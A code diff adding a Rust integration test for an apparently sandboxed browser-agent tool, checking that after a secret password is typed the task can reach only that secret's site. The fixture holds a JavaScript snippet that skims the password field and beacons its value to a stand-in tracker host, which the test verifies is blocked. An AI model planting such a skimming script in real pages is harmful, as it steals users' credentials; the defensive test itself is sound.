@@ -133,6 +133,87 @@ fn scenario_10_a_worker_signs_in_with_a_secret_it_never_sees() {
     no_task_containers_left();
 }
 
+/// A page that received the secret cannot send it on, even to another site the task's scope
+/// allows: once a secret is typed, the task reaches only its secrets' sites until it ends, and a
+/// refusal names that rule. Before, the login page's beacon to an in-scope tracker got through.
+#[test]
+fn scenario_10b_after_a_secret_is_typed_only_its_sites_are_reached() {
+    if !docker_ready() {
+        return;
+    }
+    let password = "beacon-proof pa55word";
+    let (tracker, tracker_seen) = site(|_| HashMap::from([("/", page("tracker"))]));
+    let beacon = format!(
+        "document.getElementById('password').addEventListener('input', (e) => {{ \
+           navigator.sendBeacon('http://tracker.lab:{tracker}/beacon?ev=paste&v=' + encodeURIComponent(e.target.value)); }});"
+    );
+    let (port, posted) = airlock_testkit::login::login_site("member", password, &beacon);
+    let resolver = dns(HashMap::from([
+        ("shop.lab", vec![Ipv4Addr::LOCALHOST]),
+        ("tracker.lab", vec![Ipv4Addr::LOCALHOST]),
+    ]));
+    let dir = tempfile::tempdir().unwrap();
+    let secret_file = dir.path().join("shop-password");
+    std::fs::write(&secret_file, password).unwrap();
+    let shop = format!("http://shop.lab:{port}");
+    let tracker_page = format!("http://tracker.lab:{tracker}/");
+    let script = json!({"turns": [
+        // Inside the scope, the tracker is reachable before any secret is typed.
+        {"tool_calls": [call(&json!(["open", tracker_page]))]},
+        {"expect": {"shown_contains": ["tracker"]},
+         "tool_calls": [call(&json!(["open", format!("{shop}/login")]))]},
+        {"tool_calls": [call(&json!(["fill", "#user", "member"]))]},
+        {"tool_calls": [call(&json!(["fill", "#password", "{{secret:shop_pw}}"]))]},
+        {"expect": {"shown_contains": ["From now on this task reaches only its secrets' sites (shop.lab)."]},
+         "tool_calls": [call(&json!(["click", "#go"]))]},
+        {"tool_calls": [call(&json!(["wait", "--url", "**/account"]))]},
+        {"tool_calls": [call(&json!(["open", tracker_page]))]},
+        {"expect": {"shown_contains": ["a secret was typed in this task"]},
+         "text": "Signed in; the tracker is out of reach now."}
+    ]});
+    let (result, output) = task(
+        dir.path(),
+        &script,
+        &[
+            "--allow",
+            &format!("127.0.0.1:{port}"),
+            "--allow",
+            &format!("127.0.0.1:{tracker}"),
+            "--nameserver",
+            &format!("127.0.0.1:{resolver}"),
+            "--allowed-domain",
+            "shop.lab",
+            "--allowed-domain",
+            "tracker.lab",
+            "--secret",
+            &format!("shop_pw@shop.lab=file:{}", secret_file.display()),
+        ],
+    );
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(result["ended"], "completed", "{result}\n{stderr}");
+    assert_eq!(posted.lock().unwrap().len(), 1);
+    // The tracker saw the worker's first visit only: never the beacon, never the second visit.
+    let seen = tracker_seen.lock().unwrap().clone();
+    assert_eq!(
+        seen.iter().filter(|heard| heard.path == "/").count(),
+        1,
+        "{seen:?}"
+    );
+    assert!(
+        !seen.iter().any(|heard| heard.path.contains("beacon")),
+        "{seen:?}"
+    );
+    let refused = refusals(&result, "reason");
+    assert!(
+        refused
+            .iter()
+            .any(|reason| reason.contains("a secret was typed in this task")),
+        "{refused:#?}"
+    );
+    assert!(!result.to_string().contains("pa55word"), "{result}");
+    no_task_containers_left();
+}
+
 #[test]
 fn scenario_11_a_second_task_starts_signed_in_from_the_first_ones_state() {
     if !docker_ready() {
